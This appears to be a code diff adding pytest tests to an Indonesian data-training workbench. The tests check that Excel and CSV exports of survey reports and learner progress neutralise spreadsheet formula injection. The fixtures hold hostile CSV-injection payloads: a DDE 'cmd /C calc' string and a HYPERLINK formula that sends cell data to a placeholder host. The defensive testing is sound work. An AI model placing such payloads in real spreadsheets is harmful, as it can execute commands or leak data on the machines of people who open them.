@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv as _csv
 import errno
 import json
 import multiprocessing
@@ -194,3 +195,88 @@ def test_progress_refusal_is_a_workbench_error(settings, monkeypatch):
     with pytest.raises(WorkbenchError, match="disk penuh") as info:
         store.record("02-pandas", "q1", "check", Outcome.CORRECT)
     assert str(store.path) in str(info.value)
+
+
+# -- text stays text in files people open ------------------------------------------------------
+
+DDE = "=cmd|' /C calc'!A0"
+LINK = '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")'
+
+
+def _formulas(path) -> list[str]:
+    """Every cell of the workbook at ``path`` that Excel would evaluate."""
+    import openpyxl
+
+    book = openpyxl.load_workbook(path)
+    return [
+        f"{sheet.title}!{cell.coordinate}: {cell.value}"
+        for sheet in book
+        for row in sheet.iter_rows()
+        for cell in row
+        if cell.data_type == "f"
+    ]
+
+
+def _texts(path) -> set[str]:
+    import openpyxl
+
+    book = openpyxl.load_workbook(path)
+    return {
+        cell.value
+        for sheet in book
+        for row in sheet.iter_rows()
+        for cell in row
+        if isinstance(cell.value, str)
+    }
+
+
+def test_skm_report_keeps_survey_categories_and_plan_text_as_text(settings, tmp_path):
+    """When survey categories (kelurahan, pekerjaan, jenis layanan) and the follow-up plan hold
+    text that starts with =, +, - or @, does the Excel report show it as text, with no formula
+    anywhere in the workbook?"""
+    from workbench.data import load
+
+    answers = load("skm").head(400).copy()
+    answers.loc[answers.index[:150], "kelurahan"] = DDE
+    answers.loc[answers.index[:150], "pekerjaan"] = "@SUM(1+1)*cmd|' /C calc'!A0"
+    answers.loc[answers.index[150:300], "jenis_layanan"] = "+1+2"
+    laporan = skm.report(answers, seed=1, n_boot=50)
+    plan = _one_row(LINK).assign(tindakan=["-2+3"], penanggung_jawab=["@Kasi Pelayanan"])
+    path = skm.export_excel(laporan, tmp_path / "laporan.xlsx", rencana=plan, settings=settings)
+    assert _formulas(path) == []
+    assert {DDE, "@SUM(1+1)*cmd|' /C calc'!A0", "+1+2", LINK, "-2+3"} <= _texts(path)
+    assert "@Kasi Pelayanan" in _texts(path)
+
+
+def _progress_of(settings, learner: str, module: str) -> None:
+    ProgressStore(learner, settings=settings).record(module, "q1", "check", Outcome.CORRECT)
+
+
+def test_progress_export_keeps_learner_names_and_modules_as_text(settings, tmp_path):
+    """When a progress file names its learner '=HYPERLINK(...)' and a module '@cmd', does the
+    trainer's Excel export hold them as text (no formula), and the CSV export guard them with
+    a leading apostrophe while the numbers stay numbers?"""
+    from workbench.practice.progress import export_progress
+
+    _progress_of(settings, "ani", "02-pandas")
+    store = ProgressStore("budi", settings=settings)
+    store.record("@cmd", "q1", "check", Outcome.CORRECT)
+    data = json.loads(store.path.read_text(encoding="utf-8"))
+    data["peserta"] = LINK  # the name inside a collected file is what the trainer sees
+    store.path.write_text(json.dumps(data), encoding="utf-8")
+
+    xlsx = export_progress(tmp_path / "progres.xlsx", settings=settings)
+    assert _formulas(xlsx) == []
+    assert {LINK, "@cmd"} <= _texts(xlsx)
+
+    csv = export_progress(tmp_path / "progres.csv", settings=settings)
+    with open(csv, encoding="utf-8-sig", newline="") as handle:
+        rows = list(_csv.reader(handle, delimiter=";"))
+    assert rows[0][:3] == ["peserta", "modul", "soal"]
+    cells = {cell for row in rows[1:] for cell in row}
+    assert "'@cmd" in cells and "@cmd" not in cells
+    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
+    assert any(cell.startswith("'=HYPERLINK") for cell in cells)
+    table = pd.read_csv(csv, sep=";", encoding="utf-8-sig")
+    assert table["percobaan"].tolist() == [1, 0]  # numbers stay numbers (the edited file's
+    # entry no longer matches its seal, so it counts nothing)
